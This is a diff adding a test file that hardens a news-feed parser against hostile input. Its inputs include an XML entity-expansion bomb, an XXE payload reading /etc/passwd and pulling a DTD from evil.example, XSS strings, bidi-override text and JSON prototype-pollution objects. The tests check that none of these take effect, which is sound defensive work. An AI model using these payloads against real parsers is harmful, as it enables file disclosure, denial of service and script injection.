@@ -1,0 +1,177 @@
+import { expect } from 'chai';
+import { tidy } from '../../src/loading/tidy.js';
+import { toRequest } from '../../src/model/request.js';
+import { NewsError } from '../../src/model/error.js';
+import { jsonFeed, megabyteOf, read, rss } from '../support/feeds.js';
+
+/**
+ * Documents made to stop a page. The guarantee is structural: each is so large that a reader whose time grows with the
+ * square of its input would not end within the time limit of a test.
+ */
+
+const GOOD = '<item><title>Good</title><link>https://paper.example/good</link></item>';
+const titles = (body: string) => read(body).articles.map(({ title }) => title);
+const numbered = (count: number, make: (n: number) => string) => Array.from({ length: count }, (_one, n) => make(n)).join('');
+
+describe('a megabyte of', () => {
+  const PIECES = ['<', '<a ', '<a "', '&', '&#', '&amp', `<a a='"`, '<a a="', '</', '<!', '<!--', '<![CDATA[', ']]>', '<?', '<img ', '<img src="',
+    '<script>', '<svg ', '\0', ' ', '\u202e', '\ud83d', '&#150;', '&#x202e;', '<a' + ' '.repeat(1000), `<a${' "'.repeat(300)}`, '@', 'a@', '"', '(', '1', '.']; // prettier-ignore
+
+  for (const piece of PIECES) {
+    const name = JSON.stringify(piece.slice(0, 12));
+
+    it(`${name} between items costs nothing but itself`, () => {
+      const text = megabyteOf(piece);
+      expect(titles(`<rss><channel>${GOOD}${text}`)[0], 'in RSS').to.equal('Good');
+      expect(titles(rss(`${GOOD}<item><enclosure type="image/png" url="${text}"/></item>`))[0], 'in an attribute').to.equal('Good');
+      const item = { title: text, url: text, content_html: text, date_published: text, language: text, image: text };
+      expect(titles(jsonFeed([{ title: 'Good', url: '/good' }, item]))[0], 'in JSON').to.equal('Good');
+    });
+
+    it(`${name} inside an item costs nothing but itself`, () => {
+      const text = megabyteOf(piece);
+      for (const element of ['title', 'link', 'guid', 'content:encoded', 'author', 'pubDate', 'dc:language']) {
+        expect(titles(rss(`${GOOD}<item><${element}>${text}</${element}></item>`))[0], `as ${element}`).to.equal('Good');
+      }
+    });
+
+    it(`${name} is no feed`, () => {
+      const text = megabyteOf(piece);
+      for (const body of [text, `<html>${text}`, `{${text}`, `{"items":["${text}`, `{"items":[{"a":${text}`]) {
+        expect(() => read(body)).to.throw(NewsError).with.property('code', 'format');
+      }
+    });
+  }
+
+  it('a title gives a title that fits', () => {
+    const [article] = read(rss(`<item><title>${megabyteOf('word ')}</title><link>/a</link></item>`)).articles;
+    expect(article!.title.length).to.be.within(900, 1000);
+  });
+});
+
+describe('a document with', () => {
+  it('100,000 nested elements keeps its items', () => {
+    expect(titles(rss('<a>'.repeat(100_000) + '</a>'.repeat(100_000) + GOOD))).to.deep.equal(['Good']);
+    expect(titles(rss(`${GOOD}<item>${'<a>'.repeat(100_000)}`))).to.deep.equal(['Good']);
+    expect(titles(rss(`<item><title>${'<b>'.repeat(100_000)}Deep${'</b>'.repeat(100_000)}</title><link>/a</link></item>`))).to.be.an('array');
+  });
+
+  it('100,000 nested elements in JSON keeps its items', () => {
+    const deep = '['.repeat(100_000) + ']'.repeat(100_000);
+    expect(titles(`{"items":[{"title":"Good","url":"/a","authors":${deep},"tags":${deep}},${deep}]}`)).to.deep.equal(['Good']);
+  });
+
+  it('100,000 end tags that close nothing keeps its items', () => {
+    expect(titles(rss('</x>'.repeat(100_000) + GOOD))).to.deep.equal(['Good']);
+    expect(titles(rss('<b>'.repeat(50_000) + numbered(50_000, (n) => `</x${n}>`) + GOOD))).to.deep.equal(['Good']);
+  });
+
+  it('100,000 namespace declarations, nested or not, keeps its items', () => {
+    expect(titles(rss(numbered(100_000, (n) => `<a xmlns:n${n}="urn:${n}">`) + GOOD))).to.deep.equal(['Good']);
+    expect(titles(`<rss><channel><x ${numbered(100_000, (n) => `xmlns:n${n}="urn:${n}" `)}/>${GOOD}</channel></rss>`)).to.deep.equal(['Good']);
+    expect(titles(rss(numbered(100_000, (n) => `<n${n}:a/>`) + GOOD))).to.deep.equal(['Good']);
+  });
+
+  it('entities that grow expands none of them', () => {
+    const entities = numbered(20, (n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`);
+    const bomb = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e0 "ha">${entities}]>`;
+    const [article] = read(bomb + rss('<item><title>&e20;</title><link>/a</link></item>')).articles;
+    expect(article!.title).to.equal('&e20;');
+  });
+
+  it('entities of files fetches none of them', () => {
+    const external = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://evil.example/x.dtd">%y;]>';
+    expect(titles(external + rss('<item><title>A &x; b</title><link>/a</link></item>'))).to.deep.equal(['A &x; b']);
+  });
+
+  it('20,000 items gives 20,000 articles', () => {
+    const items = numbered(20_000, (n) => `<item><title>T${n}</title><link>/${n}</link></item>`);
+    expect(read(rss(items)).articles).to.have.length(20_000);
+  });
+
+  it('20,000 items that are alike gives each an id of its own', () => {
+    const { articles } = read(rss('<item><title>T</title><link>/a</link></item>'.repeat(20_000)));
+    expect(new Set(articles.map(({ id }) => id)).size).to.equal(20_000);
+  });
+
+  it('10,000 items that are alike, behind 10,000 that took the ids they would get, gives each an id of its own', () => {
+    const url = 'https://paper.example/a';
+    const taken = numbered(10_000, (n) => `<item><title>T</title><link>${url}</link><guid>${url}#${n + 2}</guid></item>`);
+    const { articles } = read(rss(taken + `<item><title>T</title><link>${url}</link></item>`.repeat(10_000)));
+    expect(new Set(articles.map(({ id }) => id)).size).to.equal(20_000);
+  });
+
+  it('50,000 items without an end tag drops what is none', () => {
+    expect(read(rss('<item>'.repeat(50_000) + GOOD))).to.have.nested.property('articles.length', 1);
+  });
+
+  const MANY_AUTHORS = {
+    RSS: () => rss('<item><title>T</title><link>/a</link></item>'.repeat(10_000), numbered(10_000, (n) => `<managingEditor>E${n}</managingEditor>`)),
+    Atom: () =>
+      `<feed>${numbered(10_000, (n) => `<author><name>A${n}</name></author>`)}${'<entry><title>T</title><link href="/a"/></entry>'.repeat(10_000)}</feed>`,
+    JSON: () => jsonFeed(Array(10_000).fill({ title: 'T', url: '/a' }), { authors: Array(10_000).fill({ name: 'A' }) }),
+  };
+  for (const [dialect, document] of Object.entries(MANY_AUTHORS)) {
+    it(`10,000 authors for each of 10,000 items names some of them (${dialect})`, () => {
+      const { articles } = read(document());
+      expect(articles).to.have.length(10_000);
+      expect(articles[0]!.authors.length).to.be.within(1, 100);
+    });
+  }
+
+  it('a base or a language of a megabyte for each of 10,000 items ignores it', () => {
+    const long = megabyteOf('a');
+    for (const attribute of [`xml:base="https://a.example/${long}/"`, `xml:lang="${long}"`]) {
+      const { articles } = read(`<feed ${attribute}>${'<entry><title>T</title><link href="/a"/></entry>'.repeat(10_000)}</feed>`);
+      expect(articles).to.have.length(10_000);
+      expect(articles[0]).to.include({ url: 'https://paper.example/a' }).and.not.to.have.property('language');
+    }
+  });
+
+  it('30,000 pictures that share one long description shows one', () => {
+    const media = `<media:description>${'long '.repeat(10_000)}</media:description>${'<media:content url="a.jpg"/>'.repeat(30_000)}`;
+    expect(read(rss(`<item><title>T</title><link>/a</link>${media}</item>`)).articles[0]!.image?.url).to.equal('https://paper.example/feeds/a.jpg');
+  });
+
+  it('a link with 100,000 tracking parameters is compared like any other', () => {
+    const link = `https://paper.example/a?${numbered(100_000, (n) => `utm_${n}=1&amp;`)}x=1`;
+    const { articles } = read(rss(`<item><title>A</title><link>${link}</link></item><item><title>B</title><link>/a?x=1</link></item>`));
+    expect(tidy(articles, toRequest({}, expect.fail))).to.have.length(1);
+  });
+});
+
+describe('text made to deceive', () => {
+  const textOf = (text: string) => read(rss(`<item><title>${text}</title><link>/a</link></item>`)).articles[0]!.title;
+
+  it('can turn no text around it', () => {
+    expect(textOf('Pay \u202e001\u202c \u2066now\u2069 &#x202e;x &amp;#8238;y')).to.equal('Pay 001 now x y');
+  });
+
+  it('can hold no null bytes', () => {
+    expect(textOf('Pay\0 no&#0;w')).to.equal('Pay no\ufffdw');
+  });
+
+  it('can give no markup', () => {
+    expect(textOf('&lt;img src=x onerror=alert(1)&gt;Text&lt;script&gt;alert(1)&lt;/script&gt;')).to.equal('Text');
+  });
+});
+
+describe('names that every object has', () => {
+  it('as elements and attributes are just names', () => {
+    const names = ['constructor', '__proto__', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];
+    const odd = names.map((name) => `<${name} ${name}="x" xmlns:${name}="urn:${name}"><${name}:title/>x</${name}>`).join('');
+    expect(titles(rss(odd + GOOD.replace('<title', `${odd}<title`), odd))).to.deep.equal(['Good']);
+    for (const name of names) expect(titles(`<${name}:rss xmlns:${name}="urn:x" ${name}="x"/>`)).to.deep.equal([]);
+  });
+
+  it('as members of JSON are left out, and change no prototype', () => {
+    const polluting = '"__proto__":{"polluted":true,"title":"Stolen"},"constructor":{"prototype":{"polluted":true}}';
+    const document = `{${polluting},"items":[{${polluting},"url":"/a","title":"Good"},{${polluting},"url":"/b"}]}`;
+    const { articles, dropped } = read(document);
+    expect(articles.map(({ title }) => title)).to.deep.equal(['Good']);
+    expect(dropped).to.have.length(1);
+    expect(Object.getPrototypeOf(articles[0])).to.equal(Object.prototype);
+    expect(articles[0]).not.to.have.any.keys('__proto__', 'constructor', 'polluted');
+    expect(({} as { polluted?: boolean }).polluted).to.equal(undefined);
+  });
+});
